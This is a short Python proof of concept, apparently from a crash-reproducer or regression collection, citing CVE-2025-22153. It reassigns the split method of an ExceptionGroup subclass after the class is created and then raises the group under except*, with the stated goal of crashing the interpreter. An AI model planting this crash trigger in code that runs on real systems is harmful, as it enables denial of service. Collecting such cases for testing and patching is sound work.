# technique: split assigned after the class was made
# goal: crash
# mended: later releases
# source: CVE-2025-22153
class Group(ExceptionGroup):
    pass


group = Group('group', [ValueError()])
Group.split = lambda self, condition: 7 ** 100
try:
    raise group
except* ValueError:
    pass
